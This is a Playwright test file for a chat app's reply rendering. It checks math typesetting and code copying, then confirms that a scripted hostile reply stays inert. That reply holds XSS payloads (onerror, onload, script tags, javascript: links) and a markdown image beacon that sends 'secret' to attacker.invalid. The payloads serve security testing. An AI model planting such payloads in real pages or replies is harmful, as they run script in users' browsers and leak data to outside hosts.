import { expect, test } from "@playwright/test";
import { scriptReply } from "../test-support/fake-openai/client";
import { E2E } from "./support/env";
import { replies, send } from "./support/chat-page";
import { unique } from "./support/session";

test.use({ storageState: E2E.alice.state, permissions: ["clipboard-read", "clipboard-write"] });

const fake = E2E.fakeOrigin;

test("math in every notation is typeset, code is highlighted, and Copy code copies it", async ({ page }) => {
  const token = unique("math");
  const code = 'def greet(name):\n    return f"Hello, {name}"';
  const reply = [
    "Inline $e^{i\\pi} + 1 = 0$ and \\(a^2 + b^2 = c^2\\).",
    "",
    "$$",
    "\\int_0^1 x^2\\,dx = \\frac{1}{3}",
    "$$",
    "",
    "\\[ \\sum_{n=1}^{\\infty} \\frac{1}{n^2} = \\frac{\\pi^2}{6} \\]",
    "",
    "It costs $5 and $10.",
    "",
    "```python",
    code,
    "```",
  ].join("\n");
  await scriptReply(fake, token, { chunks: [reply] });
  // KaTeX's fonts come from Parley itself, so math renders with no internet access.
  const font = page.waitForResponse((r) => /KaTeX_Main-Regular[^/]*\.woff2$/.test(r.url()));

  await page.goto("/");
  await send(page, `typeset ${token}`);
  const answer = replies(page);
  await expect(answer.locator(".katex-display")).toHaveCount(2);
  await expect(answer.locator(".katex")).toHaveCount(4);
  // MathML keeps the formulas readable by screen readers.
  await expect(answer.locator("math annotation").first()).toHaveText("e^{i\\pi} + 1 = 0");
  await expect(answer).toContainText("It costs $5 and $10.");
  expect((await font).status()).toBe(200);

  const block = answer.locator(".code-block");
  await expect(block.locator(".code-language")).toHaveText("python");
  await expect(block.locator(".hl-keyword").first()).toHaveText("def");
  await expect(block.locator(".hl-string")).toContainText("Hello");

  const copy = block.getByRole("button", { name: "Copy code" });
  await copy.click();
  await expect(copy).toContainText("Copied");
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
  await expect(copy).not.toContainText("Copied");
});

test("hostile replies stay inert text: no script, no handler, no javascript: link, no dialog", async ({ page }) => {
  const token = unique("hostile");
  const hostile = [
    `<img src=x onerror="window.__pwned='img'">`,
    `<script>window.__pwned='script'</script>`,
    `<a href="javascript:window.__pwned='a'">raw link</a>`,
    `<svg onload="window.__pwned='svg'"></svg>`,
    `[md link](javascript:window.__pwned='md')`,
    `![beacon](https://attacker.invalid/leak?q=secret)`,
    `$\\href{javascript:window.__pwned='katex'}{math link}$`,
    "```html\n<script>window.__pwned='code'</script>\n```",
  ].join("\n\n");
  await scriptReply(fake, token, { chunks: [hostile] });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const outbound: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("attacker.invalid")) outbound.push(request.url());
  });

  await page.goto("/");
  await send(page, `be hostile ${token}`);
  const answer = replies(page);
  await expect(answer).toContainText(`<img src=x onerror="window.__pwned='img'">`);
  await expect(answer).toContainText(`<script>window.__pwned='script'</script>`);
  await expect(answer).toContainText(`<svg onload=`);
  await expect(answer.locator(".code-block")).toContainText("<script>window.__pwned='code'</script>");
  await expect(answer.locator("img, script, svg[onload], iframe, [onerror], [onload]")).toHaveCount(0);

  const hrefs = await answer.locator("a").evaluateAll((links) => links.map((a) => a.getAttribute("href") ?? ""));
  expect(hrefs.some((href) => /^\s*javascript:/i.test(href))).toBe(false);
  // The image became a link to follow on purpose, never a request made on its own.
  await expect(answer.getByRole("link", { name: "beacon" })).toHaveAttribute("href", /attacker\.invalid/);

  // Let any handler that slipped through have its turn before looking.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(outbound).toEqual([]);
});
